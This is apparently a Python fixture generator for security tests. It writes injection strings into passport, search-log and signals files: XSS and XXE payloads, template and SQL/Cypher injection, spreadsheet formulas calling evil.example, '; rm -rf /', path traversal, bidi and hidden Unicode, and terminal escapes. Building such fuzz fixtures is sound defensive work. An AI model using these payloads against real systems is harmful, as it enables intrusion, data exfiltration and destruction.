"""Texts that mean something to what prints, draws, stores or reads them, and a graph of them."""

from __future__ import annotations

import csv
import json
from pathlib import Path

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></svg><script>alert(1)</script>",
    "\"><svg/onload=alert(1)>'",
    "<!--<script>-->]]><![CDATA[x]]>",
    "&lt;b&gt; &#x3c;script&#x3e; &amp;amp;",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "<?xml version='1.0'?><?php system('id') ?>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
)
MARKDOWN = (
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/?q=1)",
    "`code` **bold** ~~gone~~ __under__ _it_",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "=== --- ***",
    "a | b | c",
    "\\| \\[ \\",
    "[a]: https://evil.example",
    "<https://evil.example>",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "'=1+1",
    '"=1+1"',
    "a;=1+1",
    'x; =WEBSERVICE("https://evil.example")',
    "\uff1d1+1",
    "%0A=1+1",
)
DIRECTIONS = (
    "a\u202egnp.exe",
    "\u2066isolated\u2069 \u2067right\u2069",
    "\u200fright\u200eleft\u061cmark",
    "invisible\u200b\u200c\u200d\ufeff\u00adtext",
    "tags" + "".join(chr(0xE0000 + ord(each)) for each in "obey"),
    "line\u2028and\u2029paragraph",
    "Zal\u0336\u0337\u0338go",
)
PATHS = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "~root",
    "$(id) `id` ${HOME} $HOME",
    "; rm -rf / #",
    "-rf --output=/tmp/x",
    "CON.txt",
    "a%n%s%x",
    "'; DROP TABLE x; --",
    "\\u0027 SET e.rank = 100 //",
    "') MATCH (n) DETACH DELETE n //",
)
TEXTS = (*MARKUP, *MARKDOWN, *FORMULAS, *DIRECTIONS, *PATHS)
# refused when they are loaded: characters that no page could hold
REFUSED = (
    "\x1b[31mred\x1b[0m",
    "\x1b]52;c;aGk=\x07",
    "\x1b]0;title\x07",
    "\x9b2J",
    "bell\x07 back\x08\x08",
    "nul\x00",
    "del\x7f",
)


def slug(number: int) -> str:
    return f"t-{number}"


def written(folder: Path) -> list[str]:
    """Write passports, a table of comparisons and a log of searches; every text in them is one of these."""
    passports = "\n".join(passport(slug(n), text) for n, text in enumerate((*TEXTS, *REFUSED)))
    (folder / "passports.jsonl").write_text(passports)
    searches = [
        {
            "id": f"s-{n}",
            "at": "2026-11-10T08:00:00Z",
            "intent": text,
            "actor": " ".join(text.split())[:20],
            "clicked": [slug(n)],
        }
        | {"shown": [{"entity": slug(n), "position": 1}, {"entity": slug(n + 1), "position": 2}]}
        for n, text in enumerate(TEXTS[:-1])
    ]
    (folder / "searches.jsonl").write_text("\n".join(map(json.dumps, searches)))
    names = ["slug", "metric", "value", "as_of", "state"]
    with (folder / "signals.csv").open("w", newline="") as file:
        table = csv.writer(file)
        table.writerows(
            [names, *([slug(n), "adoption", n / 100, "2026-11-20", ""] for n in range(len(TEXTS)))]
        )
    return [str(folder / name) for name in ("passports.jsonl", "searches.jsonl", "signals.csv")]


def passport(name: str, text: str) -> str:
    """Return a passport that says a text wherever it says something."""
    line = " ".join(text.split())[:150]
    capability = {
        "id": f"{name}-c",
        "name": line,
        "description": f"{text} Draws pictures.",
        "intents": [line],
    }
    artifact = {"id": name, "slug": name, "name": line, "type": "cli", "description": text, "url": line}
    artifact |= {"pricing": {"model": line, "free": True, "starting_price": line}}
    inner = {"@version": "1.0", "artifact": artifact, "capabilities": [capability], "trust": {}}
    return json.dumps({"passport": {"unfragile": inner}})
